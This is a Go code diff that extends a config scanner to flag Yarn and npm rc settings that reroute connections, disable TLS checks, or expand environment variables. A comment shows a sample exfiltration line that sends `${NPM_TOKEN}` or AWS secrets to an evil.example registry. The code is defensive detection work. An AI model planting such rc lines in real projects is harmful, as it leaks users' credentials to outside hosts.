@@ -67,6 +67,7 @@ func ConfigFindingsWith(probe *DirProbe, program, dir, home string) []ConfigFind
 	case "yarn":
 		r.packageManager(dir, "yarn")
 		r.yarn(dir)
+		r.npmrc(dir, "yarn") // Yarn 1 reads .npmrc too (registry, auth, proxy)
 	case "npm":
 		r.npmrc(dir, "npm")
 	case "pnpm":
@@ -462,7 +463,12 @@ func GitCodeKey(e GitConfigEntry) string {
 
 var (
 	yarnPathWord = regexp.MustCompile(`(?i)yarn-?path|plugins`)
-	pnpmWord     = regexp.MustCompile(`(?i)pnpm-?file|script-?shell|node-?options|npm-?path|config-?dependencies|user-?config|global-?config`)
+	// Yarn 2+'s httpProxy, httpsProxy, enableStrictSsl, caFilePath,
+	// httpsCaFilePath, httpsCertFilePath, httpsKeyFilePath and
+	// networkSettings (which holds them per host); Yarn 1's proxy,
+	// https-proxy, strict-ssl, cafile, ca.
+	yarnNetWord = regexp.MustCompile(`(?i)proxy|strict-?ssl|ca-?file|\bca\b|cert-?file|key-?file|network-?settings`)
+	pnpmWord    = regexp.MustCompile(`(?i)pnpm-?file|script-?shell|node-?options|npm-?path|config-?dependencies|user-?config|global-?config`)
 )
 
 // yarn reads .yarnrc.yml (Yarn 2+: yarnPath starts another yarn, plugins
@@ -483,6 +489,10 @@ func (r *configReader) yarn(dir string) {
 			for i, line := range strings.Split(string(data), "\n") {
 				if m := yarnPathWord.FindString(line); m != "" {
 					r.add(p, i+1, m, "makes yarn run code from the project (another yarn, or plugins)")
+				} else if m := yarnNetWord.FindString(line); m != "" {
+					r.add(p, i+1, m, "routes or unverifies the connection that carries the user's registry credentials")
+				} else if strings.Contains(line, "${") {
+					r.add(p, i+1, "", npmrcEnvReason)
 				} else if strings.Contains(line, `\`) && strings.Contains(line, `"`) {
 					r.add(p, i+1, "", "a quoted escape may spell a key permopa looks for")
 				}
@@ -517,13 +527,32 @@ func (r *configReader) npmrc(dir, program string) {
 			norm := strings.ReplaceAll(strings.ToLower(strings.Trim(key, `"'`)), "_", "-")
 			if reason := npmrcKey(norm); reason != "" {
 				r.add(p, i+1, key, reason)
+			} else if strings.Contains(line, "${") && !npmDefaultRegistryKey(norm) {
+				r.add(p, i+1, key, npmrcEnvReason)
 			}
 		}
 	}
 }
 
+// npmrcEnvReason: npm (and yarn) replace ${NAME} in any rc value with
+// the environment's NAME, and send auth values, the user agent and
+// headers with their requests: a project file that names its own registry
+// (`//evil.example/:_authToken=${NPM_TOKEN}`, `@x:registry=` plus a
+// `user-agent=${AWS_SECRET_ACCESS_KEY}`) ships the variable to that host.
+const npmrcEnvReason = "expands an environment variable, which the package manager may send to a registry the project names"
+
+// npmDefaultRegistryKey is a key scoped to the public registries by its
+// nerf dart (`//registry.npmjs.org/:_authToken`): npm sends its value to
+// that host only, so `${NPM_TOKEN}` there, the common CI setup, reaches
+// no one else.
+func npmDefaultRegistryKey(k string) bool {
+	return strings.HasPrefix(k, "//registry.npmjs.org/:") || strings.HasPrefix(k, "//registry.yarnpkg.com/:")
+}
+
 func npmrcKey(k string) string {
 	switch k {
+	case "proxy", "https-proxy", "http-proxy", "strict-ssl", "ca", "cert", "key", "local-address":
+		return "routes or unverifies the connection that carries the user's registry credentials"
 	case "userconfig", "globalconfig":
 		return "makes " + "npm read another file as configuration (and print its lines)"
 	case "logs-dir", "cache", "cache-dir", "store-dir", "prefix", "global-dir", "global-bin-dir", "state-dir", "cafile":
